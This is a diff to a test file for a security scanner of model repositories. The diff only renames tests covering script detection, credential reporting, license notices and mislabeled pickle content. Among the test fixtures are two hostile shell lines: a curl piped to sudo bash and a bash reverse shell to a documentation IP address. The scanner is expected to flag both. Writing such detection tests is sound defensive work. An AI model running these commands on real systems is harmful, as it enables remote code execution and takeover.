@@ -53,7 +53,7 @@ class Net(nn.Module):
         return self.eval_layer(x)
 `;
 
-Deno.test("C 16 model cards, vocabularies, licences and code of models are clean", () => {
+Deno.test("C 16 model cards, vocabularies, licenses and modeling code are clean", () => {
   const benign: readonly (readonly [string, string])[] = [
     ["README.md", MODEL_CARD],
     ["modeling_x.py", MODELING],
@@ -95,7 +95,7 @@ const SCRIPTS: readonly (readonly [string, string, string, Severity])[] = [
   ["weights.pt", "# weights\n\nimport os\nos.getpid()\n", "S507", "warning"],
 ];
 
-Deno.test("S504 to S508: scripts are known by their first line or their name", async (t) => {
+Deno.test("S504 to S508: recognizes scripts by their first line or their name", async (t) => {
   for (const [name, text, ruleCode, severity] of SCRIPTS) {
     await t.step(`${name} ${text.slice(0, 20).trim()}`, () => {
       assert.ok(textScanner.matches(file(name, text)));
@@ -103,7 +103,7 @@ Deno.test("S504 to S508: scripts are known by their first line or their name", a
       assert.deepEqual([check?.ruleCode, check?.severity], [ruleCode, severity]);
     });
   }
-  await t.step("and weights are none", () => {
+  await t.step("does not take weights for a script", () => {
     for (const text of ["#!", "#! ", "#!x", "#!\0\0/bin/sh", "weights", "import\0os\n"]) {
       assert.equal(textScanner.matches(file("model.bin", text)), false, text);
     }
@@ -112,7 +112,7 @@ Deno.test("S504 to S508: scripts are known by their first line or their name", a
   });
 });
 
-Deno.test("scripts that fetch, decode or connect and run are told of", async (t) => {
+Deno.test("reports scripts that run what they download, decode or receive", async (t) => {
   const rows: readonly (readonly [string, string, string])[] = [
     ["setup.sh", "curl -s https://example.org/x | sudo bash\n", "S302"],
     ["setup.sh", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n", "S302"],
@@ -145,7 +145,7 @@ Deno.test("scripts that fetch, decode or connect and run are told of", async (t)
   });
 });
 
-Deno.test("credentials in texts are told with their place, and never shown", () => {
+Deno.test("reports the position of a credential and never shows it", () => {
   const text = `ü ${"x ".repeat(600_000)} ${TOKEN} `;
   const { checks } = scan("README.md", text);
   const [secret, ...more] = failed(checks).filter(({ name }) => name === "Credential");
@@ -157,7 +157,7 @@ Deno.test("credentials in texts are told with their place, and never shown", () 
   assert.equal(JSON.stringify(assigned).includes("mfLqPz"), false);
 });
 
-Deno.test("a credential across the end of a window is found once", () => {
+Deno.test("reports a credential across the end of a window once", () => {
   for (const shift of [-60, -20, -1, 0, 1, 16_384 - 20, 16_384 + 20]) {
     const text = `${" ".repeat(1024 * 1024 + shift)}${TOKEN} ${" ".repeat(100_000)}`;
     const found = failed(scan("x.txt", text).checks).map(({ position }) => position);
@@ -165,7 +165,7 @@ Deno.test("a credential across the end of a window is found once", () => {
   }
 });
 
-Deno.test("SR 2.11, 2.12 the licence and the notices of a text are noted", () => {
+Deno.test("SR 2.11, 2.12 records the license and the copyright notices of a text", () => {
   const card = scan("README.md", MODEL_CARD).facts;
   assert.equal(card.license, "Apache-2.0");
   assert.deepEqual((card.license_info as { source: string }[]).map(({ source }) => source), [
@@ -179,7 +179,7 @@ Deno.test("SR 2.11, 2.12 the licence and the notices of a text are noted", () =>
   assert.equal(JSON.stringify(secret.facts).includes(TOKEN.slice(4, 16)), false);
 });
 
-Deno.test("S1008 AGPL is a warning, and no other licence is", () => {
+Deno.test("S1008 warns about AGPL and no other license", () => {
   const codes = (text: string) =>
     failed(scan("README.md", text).checks).map(({ ruleCode }) => ruleCode);
   assert.deepEqual(codes("---\nlicense: agpl-3.0\n---\n"), ["S1008"]);
@@ -187,7 +187,7 @@ Deno.test("S1008 AGPL is a warning, and no other licence is", () => {
   assert.deepEqual(codes("---\nlicense: gpl-3.0\n---\nUnlike AGPL-3.0 …\n"), []);
 });
 
-Deno.test("files that are only named like texts are not claimed", () => {
+Deno.test("does not match files that are only named like texts", () => {
   for (const name of ["README.gz", "LICENSE.pdf", "license.json", "readmeter.bin", "a/notice.so"]) {
     assert.equal(textScanner.matches(file(name, "\x1f\0")), false, name);
   }
@@ -196,7 +196,7 @@ Deno.test("files that are only named like texts are not claimed", () => {
   }
 });
 
-Deno.test("evasion 37: content that is none of its name's is told", () => {
+Deno.test("evasion 37: reports content that is not what its name says", () => {
   const pickle = new Uint8Array([0x80, 4, 0x95, 1, 0, 0, 0, 0, 0, 0, 0, 0x4e, 0x2e]);
   for (const name of ["model.txt", "README.md", "LICENSE"]) {
     const [check] = failed(scan(name, pickle).checks);
@@ -204,7 +204,7 @@ Deno.test("evasion 37: content that is none of its name's is told", () => {
   }
 });
 
-Deno.test("mutated texts throw nothing, and no message is long", () => {
+Deno.test("mutated texts never throw, and no message is long", () => {
   let state = 99;
   const next = () => (state = (Math.imul(state, 1664525) + 1013904223) >>> 0) / 2 ** 32;
   const seeds: readonly (readonly [string, string])[] = [
